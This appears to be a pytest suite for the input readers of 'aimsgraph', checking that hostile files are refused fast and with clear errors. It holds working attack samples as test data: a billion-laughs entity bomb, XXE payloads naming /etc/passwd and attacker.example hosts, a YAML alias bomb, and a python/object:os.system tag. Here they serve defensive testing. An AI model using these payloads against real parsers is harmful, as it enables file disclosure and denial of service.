"""Hostile input is normal input: every reader is bounded (size, depth, alias and entity
expansion, cells, problems listed, characters echoed), and every bad input is a clear
InputError naming the file (exit 2 on the command line), refused fast and in little memory,
with nothing half-loaded."""

from __future__ import annotations

import os
import resource
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from aimsgraph import readers
from aimsgraph.errors import InputError, RDFInputError, RegisterError
from aimsgraph.limits import API_LIMITS, DEFAULT_LIMITS, Limits, show
from aimsgraph.load import load_input, read_data, read_input, read_register
from aimsgraph.namespaces import GRAPH_DATA
from aimsgraph.store import open_store

ROOT = Path(__file__).resolve().parents[1]
CSV_EXAMPLE = ROOT / "examples" / "csv-minimal"
MINIMAL = ROOT / "tests" / "fixtures" / "csv-minimal.yaml"
RDF_NS = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
MEMORY_CAP = 768 * 1024 * 1024  # address space of the child process in the bounded runs


def problem_of(call, *args, **kwargs):
    """The one problem of the InputError `call` raises, and the seconds it took."""
    started = time.perf_counter()
    with pytest.raises(InputError) as caught:
        call(*args, **kwargs)
    elapsed = time.perf_counter() - started
    [problem] = caught.value.problems
    return problem, elapsed


def convert_bounded(path: Path) -> tuple[int, str, float]:
    """`python -m aimsgraph convert FILE` in a child limited to MEMORY_CAP of address space:
    (exit code, stderr as one line, seconds)."""
    def cap():
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_CAP, MEMORY_CAP))

    env = {**os.environ, "PYTHONPATH": str(ROOT / "src") + os.pathsep + os.environ.get("PYTHONPATH", ""),
           "COLUMNS": "400"}
    started = time.perf_counter()
    done = subprocess.run([sys.executable, "-m", "aimsgraph", "convert", str(path)], capture_output=True,
                          text=True, timeout=60, preexec_fn=cap, env=env, check=False)
    return done.returncode, " ".join(done.stderr.split()), time.perf_counter() - started


# --- RDF/XML entities ---------------------------------------------------------------------

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rdf:RDF [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://ex.example/">
  <rdf:Description rdf:about="http://ex.example/a"><ex:p>&lol9;</ex:p></rdf:Description>
</rdf:RDF>
"""


def rdf_xml(doctype: str, body: str = '<rdf:Description rdf:about="http://ex.example/a"><ex:p>x</ex:p></rdf:Description>') -> str:
    return (f'<?xml version="1.0"?>\n{doctype}\n<rdf:RDF xmlns:rdf="{RDF_NS}" xmlns:ex="http://ex.example/">'
            f"{body}</rdf:RDF>\n")


def write(tmp_path: Path, name: str, content: str | bytes) -> Path:
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def test_billion_laughs_rdf_xml_is_refused_on_its_dtd_fast_and_small(tmp_path):
    path = write(tmp_path, "laughs.rdf", LAUGHS)
    problem, seconds = problem_of(read_input, path)
    assert (problem.file, problem.entry, problem.key, problem.message) == (
        "laughs.rdf", "", "<!ENTITY lol1>", "declares an entity whose text holds another entity or markup; "
        "aimsgraph accepts only plain text entities (no nesting)")
    assert seconds < 1.0
    code, stderr, _ = convert_bounded(path)  # the product as a user runs it, in 768 MiB
    assert code == 2
    assert stderr == ("error: laughs.rdf, key '<!ENTITY lol1>': declares an entity whose text holds another "
                      "entity or markup; aimsgraph accepts only plain text entities (no nesting)")


@pytest.mark.parametrize("doctype, key, message", [
    ('<!DOCTYPE rdf:RDF [<!ENTITY ext SYSTEM "file:///etc/passwd">]>', "<!ENTITY ext>",
     "declares an external entity, which aimsgraph never reads"),
    ('<!DOCTYPE rdf:RDF [<!ENTITY ext PUBLIC "-//X//Y" "http://attacker.example/x">]>', "<!ENTITY ext>",
     "declares an external entity, which aimsgraph never reads"),
    ('<!DOCTYPE rdf:RDF SYSTEM "http://attacker.example/rdf.dtd">', "DOCTYPE",
     "refers to an external DTD, which aimsgraph never reads; put the declarations inline or remove the DOCTYPE"),
    ('<!DOCTYPE rdf:RDF [<!ENTITY % pe SYSTEM "http://attacker.example/pe.dtd"> %pe;]>', "<!ENTITY pe>",
     "declares a parameter entity; aimsgraph accepts only plain internal entities such as "
     "<!ENTITY owl \"http://www.w3.org/2002/07/owl#\">"),
    ('<!DOCTYPE rdf:RDF [<!ENTITY m "<ex:q>x</ex:q>">]>', "<!ENTITY m>",
     "declares an entity whose text holds another entity or markup; aimsgraph accepts only plain text entities "
     "(no nesting)"),
])
def test_external_parameter_and_markup_entities_are_refused_without_network(tmp_path, monkeypatch, doctype, key,
                                                                             message):
    import socket

    def refuse(*args, **kwargs):
        raise AssertionError(f"network access attempted: {args}")
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    body = '<rdf:Description rdf:about="http://ex.example/a"><ex:p>&ext;</ex:p></rdf:Description>' \
        if "ext" in doctype else '<rdf:Description rdf:about="http://ex.example/a"><ex:p>x</ex:p></rdf:Description>'
    problem, seconds = problem_of(read_input, write(tmp_path, "xxe.rdf", rdf_xml(doctype, body)))
    assert (problem.file, problem.entry, problem.key, problem.message) == ("xxe.rdf", "", key, message)
    assert seconds < 1.0


def test_a_plain_namespace_entity_as_owl_tools_write_it_loads(tmp_path):
    doc = rdf_xml('<!DOCTYPE rdf:RDF [<!ENTITY owl "http://www.w3.org/2002/07/owl#">]>',
                  '<rdf:Description rdf:about="http://ex.example/a"><rdf:type rdf:resource="&owl;Class"/>'
                  "<ex:p>&owl;</ex:p></rdf:Description>")
    graph = read_input(write(tmp_path, "plain.owl", doc))
    assert sorted((str(s), str(p), str(o)) for s, p, o in graph) == [
        ("http://ex.example/a", "http://ex.example/p", "http://www.w3.org/2002/07/owl#"),
        ("http://ex.example/a", RDF_NS + "type", "http://www.w3.org/2002/07/owl#Class"),
    ]


def test_plain_entities_are_bounded_in_number_size_and_total_expansion(tmp_path):
    many = "".join(f'<!ENTITY e{i} "x">' for i in range(101))
    problem, _ = problem_of(read_input, write(tmp_path, "many.rdf", rdf_xml(f"<!DOCTYPE rdf:RDF [{many}]>")))
    assert (problem.key, problem.message) == ("DOCTYPE", "declares more than 100 entities")

    big = "y" * 2049
    problem, _ = problem_of(read_input, write(tmp_path, "big.rdf", rdf_xml(f'<!DOCTYPE rdf:RDF [<!ENTITY big "{big}">]>')))
    assert (problem.key, problem.message) == ("<!ENTITY big>", "declares an entity of 2,049 characters, "
                                                               "more than the 2,048 allowed")

    # 400 references to a 2,000-character entity: a 5 KB file that would be 800 KB of text
    doc = rdf_xml(f'<!DOCTYPE rdf:RDF [<!ENTITY w "{"w" * 2000}">]>',
                  '<rdf:Description rdf:about="http://ex.example/a"><ex:p>' + "&w;" * 400 + "</ex:p></rdf:Description>")
    path = write(tmp_path, "wide.rdf", doc)
    problem, _ = problem_of(read_data, path, Limits(max_bytes=100_000))
    assert (problem.file, problem.key, problem.message) == (
        "wide.rdf", "", "comes to more than 100,000 bytes of text once its entities are expanded")
    assert len(read_input(path)) == 1  # within the default limits it loads


def test_deep_rdf_xml_is_refused_before_pyoxigraph_slows_down(tmp_path):
    body = '<rdf:Description rdf:about="http://ex.example/a"><ex:p rdf:parseType="Resource">' * 40 + \
        "</ex:p></rdf:Description>" * 40
    problem, seconds = problem_of(read_input, write(tmp_path, "deep.rdf", rdf_xml("", body)))
    assert (problem.file, problem.message) == ("deep.rdf", "has elements nested more than 64 levels deep (line 3)")
    assert seconds < 1.0


# --- YAML aliases, depth, tags --------------------------------------------------------------

ALIAS_BOMB = """a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""


def test_yaml_alias_bomb_is_refused_by_counting_not_expanding(tmp_path):
    path = write(tmp_path, "bomb.yaml", ALIAS_BOMB)
    assert len(ALIAS_BOMB.encode()) < 400
    problem, seconds = problem_of(read_register, path)
    assert (problem.file, problem.entry, problem.key, problem.message) == (
        "bomb.yaml", "", "", "not valid YAML: holds more than 20,000,000 values once its aliases are expanded "
        "(line 8, column 14)")
    assert seconds < 1.0
    code, stderr, _ = convert_bounded(path)
    assert code == 2
    assert stderr == ("error: bomb.yaml: not valid YAML: holds more than 20,000,000 values once its aliases "
                      "are expanded (line 8, column 14)")


def test_a_smaller_alias_tree_inside_the_bound_gives_short_errors(tmp_path):
    """Aliases within the bound load, and errors about an alias-shared value echo a short
    picture of it, not its expansion (the old 624 MB error body)."""
    tree = "[" + ", ".join(["lol"] * 9) + "]"
    for level in range(5):  # 9**6 values once expanded, in 300 bytes
        tree = f"[&l{level} {tree}, " + ", ".join([f"*l{level}"] * 8) + "]"
    text = f"format: aimsgraph-register/1\norganization: {{id: acme, name: ACME}}\npeople:\n  - {{id: ceo, name: {tree}}}\n"
    with pytest.raises(RegisterError) as caught:
        read_register(write(tmp_path, "shared.yaml", text))
    assert len(str(caught.value)) < 300
    [problem] = caught.value.problems
    assert (problem.entry, problem.key) == ("ceo", "name")
    assert problem.message == ("must be text, got list [[[...], [...], [...], [...], ...], [[...], [...], [...], "
                               "[...], ...], [[...], …")


def test_aliases_that_pyyaml_writes_for_shared_values_load(tmp_path):
    register = yaml.safe_load(MINIMAL.read_text(encoding="utf-8"))
    attendees = ["kt-ceo", "kt-cto"]
    register["management_reviews"][0]["attendees"] = attendees
    register["training"][0]["attendees"] = attendees  # the same list object twice
    text = yaml.safe_dump(register, sort_keys=False)
    assert "&id001" in text and "*id001" in text  # PyYAML wrote an anchor and an alias
    plain = text.replace("&id001\n", "\n").replace("*id001", "[kt-ceo, kt-cto]")
    with_alias = read_register(write(tmp_path, "alias.yaml", text))
    without = read_register(write(tmp_path, "plain.yaml", plain))
    assert [(e.id, e.values) for e in with_alias] == [(e.id, e.values) for e in without]
    assert next(e for e in with_alias if e.section == "training").values["attendees"] == ["kt-ceo", "kt-cto"]


@pytest.mark.parametrize("text, message", [
    ("a: &x [1, *x]\n", "not valid YAML: the alias *x is inside the collection it names (line 1, column 11)"),
    ("a: *nowhere\n", "not valid YAML: found undefined alias *nowhere (line 1, column 4)"),
    ("a: &x {b: 1}\nc:\n  <<: *x\n", "not valid YAML: merge keys (<<) are not supported; write the keys out "
                                     "(line 3, column 3)"),
    ("a: !!binary aGVsbG8=\n", "not valid YAML: the tag 'tag:yaml.org,2002:binary' is not allowed in a register "
                               "(line 1, column 4)"),
    ("a: !!python/object:os.system {}\n", "not valid YAML: the tag 'tag:yaml.org,2002:python/object:os.system' "
                                          "is not allowed in a register (line 1, column 4)"),
    ('a: !!int "abc"\n', "not valid YAML: 'abc' is not a valid int (line 1, column 4)"),
    ("? [1]\n: 2\n", "not valid YAML: a mapping key must be a plain value, not a list or mapping (line 1, column 5)"),
    ("a: 1\n---\nb: 2\n", "not valid YAML: holds more than one YAML document (a second '---') (line 2, column 1)"),
    ("a:\n  b: 1\n  c: 2\n  b: 3\n", "not valid YAML: duplicate key 'b' (line 4) (line 4, column 3)"),
])
def test_yaml_constructs_outside_a_register_are_clear_errors(tmp_path, text, message):
    problem, _ = problem_of(read_register, write(tmp_path, "register.yaml", text))
    assert (problem.file, problem.entry, problem.key, problem.message) == ("register.yaml", "", "", message)


@pytest.mark.parametrize("name, text, message", [
    ("flow.yaml", "a: " + "[" * 10000 + "]" * 10000 + "\n",  # libyaml's own bound on flow nesting comes first
     "not valid YAML: exceeded maximum nesting depth (line 1, column 1003), while increasing flow level "
     "(line 1, column 1003)"),
    ("flow500.yaml", "a: " + "[" * 500 + "]" * 500 + "\n",
     "not valid YAML: nested more than 64 levels deep (line 1, column 67)"),
    ("block.yaml", "".join("  " * i + f"k{i}:\n" for i in range(10000)),
     "not valid YAML: nested more than 64 levels deep (line 65, column 129)"),
])
def test_ten_thousand_deep_yaml_is_a_clear_error_and_exit_2(tmp_path, name, text, message):
    path = write(tmp_path, name, text)
    problem, seconds = problem_of(read_register, path)
    assert (problem.file, problem.message) == (name, message)
    assert seconds < 1.0
    code, stderr, _ = convert_bounded(path)
    assert (code, stderr) == (2, f"error: {name}: {message}")


def test_ten_thousand_deep_json_ld_is_a_clear_error_and_exit_2(tmp_path):
    path = write(tmp_path, "deep.jsonld", '{"@id": "http://ex.example/a", "http://ex.example/p": ' * 10000 + "1" +
                 "}" * 10000)
    problem, seconds = problem_of(read_input, path)
    assert (problem.file, problem.message) == ("deep.jsonld", "cannot parse json-ld: nested more than 64 levels deep")
    assert seconds < 1.0
    code, stderr, _ = convert_bounded(path)
    assert (code, stderr) == (2, "error: deep.jsonld: cannot parse json-ld: nested more than 64 levels deep")


def test_json_ld_just_inside_the_depth_bound_loads(tmp_path):
    doc = '{"@id": "http://ex.example/a", "http://ex.example/p": ' * 32 + '"x"' + "}" * 32
    assert len(read_data(write(tmp_path, "ok.jsonld", doc), API_LIMITS)) == 32
    problem, _ = problem_of(read_data, write(tmp_path, "no.jsonld", "[" + doc + "]"), API_LIMITS)
    assert problem.message == "cannot parse json-ld: nested more than 32 levels deep"


def test_the_c_parser_is_used_and_the_pure_python_one_gives_the_same_values(tmp_path, monkeypatch):
    assert readers.YAML_PARSER is (yaml.CSafeLoader if yaml.__with_libyaml__ else yaml.SafeLoader)
    expected = [(e.section, e.id, e.values) for e in read_register(MINIMAL)]
    monkeypatch.setattr(readers, "YAML_PARSER", yaml.SafeLoader)
    assert [(e.section, e.id, e.values) for e in read_register(MINIMAL)] == expected
    deep = write(tmp_path, "deep.yaml", "a: " + "[" * 10000 + "]" * 10000 + "\n")
    problem, _ = problem_of(read_register, deep)
    assert problem.message == "not valid YAML: nested more than 64 levels deep (line 1, column 67)"


def test_values_resolve_as_the_strict_safe_loader_did(tmp_path):
    text = ("a: 2025-02-30\nb: yes\nc: 0x1F\nd: 1_000\ne: 1.5e3\ne2: 1.5e+3\nf: ~\ng: '07'\nh: 017\ni: .inf\nj: =\n"
            "k: !!str 12\nl: !!timestamp 2025-01-01\nm: 1:30\n")
    values = readers.parse_yaml(text, "v.yaml", DEFAULT_LIMITS, RegisterError)
    assert values == {"a": "2025-02-30", "b": True, "c": 31, "d": 1000, "e": "1.5e3", "e2": 1500.0, "f": None, "g": "07", "h": 15,
                      "i": float("inf"), "j": "=", "k": "12", "l": "2025-01-01", "m": 90}


# --- UTF-8, empty and over-size input ---------------------------------------------------------


@pytest.mark.parametrize("name, content, message", [
    ("register.yaml", b"format: aimsgraph-register/1\norganization: {id: acme, name: \"AC\xffME\"}\n",
     "is not UTF-8 text: byte 0xff at line 2, column 35 cannot be decoded (save the file as UTF-8)"),
    ("register.yaml", b"\xef\xbb\xbfformat: aimsgraph-register/1\norganization: {id: acme, name: \"\xe9\"}\n",
     "is not UTF-8 text: byte 0xe9 at line 2, column 33 cannot be decoded (save the file as UTF-8)"),
    ("data.ttl", b'<http://ex.example/a> <http://ex.example/p> "caf\xe9" .\n',
     "is not UTF-8 text: byte 0xe9 at line 1, column 49 cannot be decoded (save the file as UTF-8)"),
    ("data.rdf", rdf_xml("").replace(">x<", ">caf\xe9<").encode("latin-1"),
     "is not UTF-8 text: byte 0xe9 at line 3, column 154 cannot be decoded (save the file as UTF-8)"),
    ("data.jsonld", b'{"@id": "http://ex.example/a", "http://ex.example/p": "\xff"}',
     "is not UTF-8 text: byte 0xff at line 1, column 56 cannot be decoded (save the file as UTF-8)"),
])
def test_invalid_utf8_is_a_clear_error_naming_the_file(tmp_path, name, content, message):
    problem, _ = problem_of(read_input, write(tmp_path, name, content))
    assert (problem.file, problem.entry, problem.key, problem.message) == (name, "", "", message)


def test_invalid_utf8_in_a_csv_table_names_the_table_and_the_others_are_still_checked(tmp_path):
    import shutil

    folder = Path(shutil.copytree(CSV_EXAMPLE, tmp_path / "register"))
    people = folder / "people.csv"
    people.write_bytes(people.read_bytes().replace("Tomás".encode(), "Tom\xe1s".encode("latin-1")))
    risks = folder / "risks.csv"
    risks.write_text(risks.read_text(encoding="utf-8").replace(",3,", ",three,", 1), encoding="utf-8")
    with pytest.raises(RegisterError) as caught:
        read_register(folder)
    found = [(p.file, p.entry, p.key, p.message) for p in caught.value.problems]
    assert found[0] == ("people.csv", "", "", "is not UTF-8 text: byte 0xe1 at line 3, column 11 cannot be decoded "
                                              "(save the file as UTF-8)")
    assert ("risks.csv", "KT-R-1", "likelihood", "must be a whole number, got 'three'") in found


@pytest.mark.parametrize("name, text", [("empty.ttl", ""), ("comments.nt", "# nothing here\n"),
                                        ("empty.jsonld", "{}"), ("empty.trig", "<http://ex.example/g> { }")])
def test_rdf_with_no_triples_is_bad_input_and_the_store_keeps_its_data(tmp_path, name, text):
    store = open_store()
    load_input(store, MINIMAL)
    before = {g: set(store.triples(g)) for g in store.graphs()}
    path = write(tmp_path, name, text)
    with pytest.raises(RDFInputError) as caught:
        load_input(store, path)
    [problem] = caught.value.problems
    fmt = {"ttl": "turtle", "nt": "nt", "jsonld": "json-ld", "trig": "trig"}[name.rsplit(".", 1)[1]]
    assert (problem.file, problem.message) == (name, f"holds no triples: an empty {fmt} file is not an AI "
                                                     "management system")
    assert {g: set(store.triples(g)) for g in store.graphs()} == before


def test_an_over_size_file_is_refused_before_it_is_read(tmp_path):
    limits = Limits(max_bytes=1000)
    problem, _ = problem_of(read_register, write(tmp_path, "big.yaml", "a: " + "x" * 2000 + "\n"), limits)
    assert (problem.file, problem.message) == ("big.yaml", "is 2,004 bytes, more than the 1,000 bytes this loader "
                                                           "accepts")
    problem, _ = problem_of(read_input, write(tmp_path, "big.nt", "# " + "x" * 2000 + "\n"), limits)
    assert (problem.file, problem.message) == ("big.nt", "is 2,003 bytes, more than the 1,000 bytes this loader "
                                                         "accepts")
    problem, _ = problem_of(read_register, CSV_EXAMPLE, limits)  # a folder's tables count together
    assert problem.file == "csv-minimal" and problem.message.endswith("more than the 1,000 bytes this loader accepts")
    assert API_LIMITS.max_bytes == 16 * 1024 * 1024 and DEFAULT_LIMITS.max_bytes == 512 * 1024 * 1024


def test_csv_cells_are_bounded(tmp_path):
    problem, _ = problem_of(read_register, CSV_EXAMPLE, Limits(max_values=50))
    assert (problem.file, problem.message) == ("csv-minimal", "the tables hold more than 50 cells")


# --- echoes and problem counts ----------------------------------------------------------------


def test_every_echoed_value_is_cut_short(tmp_path):
    long_key, long_id, long_value = "k" * 1000, "i" * 5000, "v" * 5000  # YAML keys: 1024 at most
    text = (f"format: aimsgraph-register/1\norganization: {{id: acme, name: ACME}}\n"
            f"people:\n  - {{id: {long_id}, name: P, {long_key}: 1}}\n"
            f"ai_systems:\n  - {{id: s, name: S, lifecycle_stage: {long_value}, owner: {long_value}}}\n")
    with pytest.raises(RegisterError) as caught:
        read_register(write(tmp_path, "long.yaml", text))
    assert len(str(caught.value)) < 1200
    found = [(p.entry, p.key, p.message) for p in caught.value.problems]
    assert found[0] == ("i" * 79 + "…", "k" * 79 + "…", "unknown key (allowed: id, name, role)")
    assert found[1][2].startswith("'" + "v" * 79 + "…' is not allowed; use one of: inception")
    assert found[2] == ("s", "owner", "'" + "v" * 79 + "…' names no person in the register")
    assert show(list(range(10_000))) == "list [0, 1, 2, 3, ...]"


def test_problems_are_listed_up_to_a_bound_and_the_rest_counted(tmp_path):
    people = "".join(f"  - {{id: p{i}, name: P, colour: red}}\n" for i in range(30))
    path = write(tmp_path, "many.yaml", f"format: aimsgraph-register/1\norganization: {{id: acme, name: A}}\n"
                                        f"people:\n{people}")
    with pytest.raises(RegisterError) as caught:
        read_register(path, Limits(max_problems=10))
    problems = caught.value.problems
    assert len(problems) == 11
    assert [p.entry for p in problems[:10]] == [f"p{i}" for i in range(10)]
    assert (problems[10].file, problems[10].message) == ("many.yaml", "… and 20 more problems")


def test_no_server_path_in_a_parse_error(tmp_path):
    path = write(tmp_path, "bad.ttl", "@prefix : <x> .\n:a :b <rel> ; .\n:a :b \"unterminated .\n")
    problem, _ = problem_of(read_input, path)
    assert problem.message.startswith("cannot parse turtle: ")
    assert str(tmp_path) not in str(problem)


# --- linear checks, other stores -------------------------------------------------------------


def test_a_long_part_of_chain_is_checked_in_one_walk(tmp_path):
    n = 20_000
    systems = "".join(f"  - {{id: s{i}, name: S, part_of: s{i + 1}}}\n" for i in range(n))
    systems += f"  - {{id: s{n}, name: S, part_of: s{n - 5}}}\n"  # a tail of 19,995 into a cycle of 6
    path = write(tmp_path, "chain.yaml", f"format: aimsgraph-register/1\norganization: {{id: acme, name: A}}\n"
                                         f"ai_systems:\n{systems}")
    started = time.perf_counter()
    with pytest.raises(RegisterError) as caught:
        read_register(path)
    assert time.perf_counter() - started < 5
    [problem] = caught.value.problems
    assert (problem.entry, problem.key, problem.message) == (
        f"s{n - 5}", "part_of",
        "part_of goes round in a cycle: " + " -> ".join(f"s{i}" for i in range(n - 5, n + 1)) + f" -> s{n - 5}")


def test_a_base_iri_that_is_no_iri_is_a_register_error(tmp_path):
    path = write(tmp_path, "base.yaml", "format: aimsgraph-register/1\n"
                                        "organization: {id: acme, name: A, base_iri: 'https://a.example/<x>/'}\n")
    problem, _ = problem_of(read_register, path)
    assert (problem.entry, problem.key, problem.message) == ("acme", "base_iri",
                                                             "must be an http(s) IRI ending in '/' or '#'")


def test_the_rdflib_reference_store_loads_the_same_data(tmp_path):
    ox_store, rdflib_store = open_store(), open_store("rdflib")
    for store in (ox_store, rdflib_store):
        data = load_input(store, MINIMAL)
    assert set(ox_store.triples(GRAPH_DATA)) == set(rdflib_store.triples(GRAPH_DATA)) == set(read_input(MINIMAL))
    assert len(data) == 571  # lines written; the fixture states one attendee twice, so the store holds 568


def test_the_limits_table_in_the_docs_is_the_limits_dataclass():
    import dataclasses
    import re

    text = (ROOT / "docs" / "register.md").read_text(encoding="utf-8").split("## Limits", 1)[1].split("\n## ", 1)[0]
    rows = dict((name, (cli, api)) for name, cli, api in
                re.findall(r"^\| `(\w+)` \| ([^|]+?) \| ([^|]+?) \|", text, flags=re.M))

    def shown(value: int) -> str:
        return f"{value // (1024 * 1024)} MiB" if value >= 1024 * 1024 and value % (1024 * 1024) == 0 else f"{value:,}"

    assert rows == {f.name: (shown(getattr(DEFAULT_LIMITS, f.name)), shown(getattr(API_LIMITS, f.name)))
                    for f in dataclasses.fields(Limits)}
